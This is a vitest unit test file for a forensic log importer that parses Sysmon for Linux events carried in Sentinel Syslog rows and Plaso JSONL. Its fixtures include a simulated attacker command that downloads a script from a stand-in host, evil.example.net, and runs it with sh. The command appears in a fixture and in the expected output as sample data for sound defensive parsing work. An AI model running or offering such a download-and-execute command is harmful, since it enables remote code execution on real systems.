import { describe, expect, it } from 'vitest';
import { runImporter, us } from '../../../../tests/unit/support/import-harness';
import { securityDatasets } from '../security-datasets/security-datasets';
import { plasoJsonl } from '../plaso/plaso-jsonl';

/**
 * Sysmon for Linux as it reaches a Sentinel workspace: Log Analytics `Syslog`
 * rows (the shape of OTRF's Linux datasets), the event's XML in SyslogMessage.
 */
const xml = (id: number, data: Record<string, string>) =>
  `<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>${id}</EventID><Version>5</Version>` +
  `<Level>4</Level><Task>${id}</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2021-10-16T00:41:27.577774000Z"/>` +
  `<EventRecordID>765</EventRecordID><Correlation/><Execution ProcessID="3465" ThreadID="3465"/><Channel>Linux-Sysmon/Operational</Channel>` +
  `<Computer>lsys</Computer><Security UserId="0"/></System><EventData>${Object.entries(data)
    .map(([k, v]) => `<Data Name="${k}">${v}</Data>`)
    .join('')}</EventData></Event>`;

const row = (message: string) =>
  JSON.stringify({
    TenantId: '00000000-0000-0000-0000-000000000000',
    SourceSystem: 'Linux',
    TimeGenerated: '2021-10-16T00:41:29.101Z',
    Computer: 'lsys',
    EventTime: '2021-10-16T00:41:27Z',
    Facility: 'user',
    HostName: 'lsys',
    SeverityLevel: 'info',
    SyslogMessage: message,
    ProcessID: 3465,
    HostIP: '10.0.1.12',
    ProcessName: 'sysmon',
    Type: 'Syslog',
  });

describe('Sysmon for Linux delivered through syslog', () => {
  it('reads the event inside SyslogMessage: its command line, image, addresses and user become message, attributes and entities', async () => {
    const processCreate = xml(1, {
      RuleName: '-',
      UtcTime: '2021-10-16 00:41:27.581',
      ProcessGuid: '{a7d5bd4c-1f67-616a-c8b1-a5b2c1550000}',
      ProcessId: '3499',
      Image: '/usr/bin/curl',
      CommandLine: 'curl -s http://evil.example.net/x.sh -o /tmp/x.sh &amp;&amp; sh /tmp/x.sh',
      CurrentDirectory: '/root',
      User: 'root',
      LogonId: '0',
      Hashes: 'SHA256=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
      ParentImage: '/usr/bin/bash',
    });
    const network = xml(3, {
      RuleName: '-',
      UtcTime: '2021-10-16 00:41:28.002',
      Image: '/usr/bin/curl',
      User: 'root',
      Protocol: 'tcp',
      SourceIp: '10.0.1.12',
      SourcePort: '51544',
      DestinationIp: '203.0.113.9',
      DestinationPort: '80',
      DestinationIpv6: 'false',
    });
    const file = [row(processCreate), row(network), row('sshd[812]: Accepted publickey for admin from 198.51.100.7 port 50022')].join('\n');
    const r = await runImporter(securityDatasets, Buffer.from(file), { name: 'linux-syslog.json' });
    expect(r.error).toBeNull();
    expect(r.invalid).toEqual([]);
    expect(r.events.map((e) => [e.message, e.source, e.host, e.user, e.time, e.timestampDesc])).toEqual([
      [
        'Process created: curl -s http://evil.example.net/x.sh -o /tmp/x.sh && sh /tmp/x.sh by root parent /usr/bin/bash',
        'Linux-Sysmon/Operational',
        'lsys',
        'root',
        us('2021-10-16T00:41:27.581Z'),
        'Event Time',
      ],
      [
        'Network connection: /usr/bin/curl tcp 10.0.1.12:51544 -> 203.0.113.9:80',
        'Linux-Sysmon/Operational',
        'lsys',
        'root',
        us('2021-10-16T00:41:28.002Z'),
        'Event Time',
      ],
      // A syslog line without an event is its own text, not the word "Syslog".
      ['Syslog: sshd[812]: Accepted publickey for admin from 198.51.100.7 port 50022', 'Syslog', 'lsys', '', us('2021-10-16T00:41:29.101Z'), 'Event Recorded'],
    ]);
    expect(r.events[0]!.attributes).toMatchObject({
      EventID: '1',
      Provider: 'Linux-Sysmon',
      Image: '/usr/bin/curl',
      ParentImage: '/usr/bin/bash',
      CurrentDirectory: '/root',
      EventRecordID: '765',
      // The syslog row's own columns stay; the Sysmon field of the same name is kept beside it.
      ProcessID: '3465',
      'Sysmon.ProcessID': '3465',
      TimeGenerated: '2021-10-16T00:41:29.101Z',
      ProcessName: 'sysmon',
    });
    expect(r.entities.map((e) => `${e.type}:${e.key}`)).toEqual(
      expect.arrayContaining([
        'device:lsys',
        'user:root',
        'process:/usr/bin/curl',
        'ip:203.0.113.9',
        'url:http://evil.example.net/x.sh',
        'hash:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
      ]),
    );
  });

  it('imports a cut or damaged event as its syslog text, with a warning naming the line', async () => {
    const cut = row(xml(1, { Image: '/usr/bin/id' }).slice(0, 300));
    const broken = row(xml(1, { Image: '/usr/bin/id' }).replace('</System>', '</Sys>'));
    const r = await runImporter(securityDatasets, Buffer.from(`${cut}\n${broken}\n`), { name: 'cut.json' });
    expect(r.events).toHaveLength(2);
    expect(r.events[0]!.message).toMatch(/^Syslog: <Event><System>/);
    expect(r.warnings).toEqual([
      'line 1: SyslogMessage holds a Sysmon event that could not be read (the message holds an <Event> that is not closed (cut short by the syslog line limit?)); the row was imported as its text',
      expect.stringMatching(/^line 2: SyslogMessage holds a Sysmon event that could not be read \(<\/Sys> closes <System> at character \d+\)/),
    ]);
  });

  it('reads the event in a syslog line as Plaso parsed it (json_line): its own UtcTime, the local syslog time kept and compared', async () => {
    const body = `[3465]: ${xml(1, { UtcTime: '2021-10-16 00:41:27.581', Image: '/usr/bin/id', CommandLine: 'id', User: 'root', ParentImage: '/usr/bin/bash' })}`;
    const line = JSON.stringify({
      __container_type__: 'event',
      __type__: 'AttributeContainer',
      body,
      data_type: 'syslog:line',
      // The syslog time, local (UTC-7 here) and to the second, as Plaso wrote it.
      date_time: { __class_name__: 'TimeElements', __type__: 'DateTimeValues', is_local_time: true, time_elements_tuple: [2021, 10, 15, 17, 41, 27] },
      hostname: 'lsys',
      message: `[sysmon] ${body}`,
      parser: 'syslog',
      reporter: 'sysmon',
      timestamp: 1634344887000000,
      timestamp_desc: 'Content Modification Time',
    });
    const r = await runImporter(plasoJsonl, Buffer.from(`${line}\n`), { name: 'syslog.jsonl' });
    expect(r.error).toBeNull();
    expect(r.events.map((e) => [e.time, e.timestampDesc, e.message, e.source, e.host, e.user])).toEqual([
      [us('2021-10-16T00:41:27.581Z'), 'Event Time', 'Process created: id by root parent /usr/bin/bash', 'Linux-Sysmon/Operational', 'lsys', 'root'],
    ]);
    expect(r.events[0]!.attributes).toMatchObject({ Image: '/usr/bin/id', reporter: 'sysmon', syslogTime: '2021-10-15T17:41:27.000000Z' });
    expect(r.clockOffsets).toEqual([{ field: 'UtcTime', other: 'syslog time', hours: -7, records: 1 }]);
  });
});
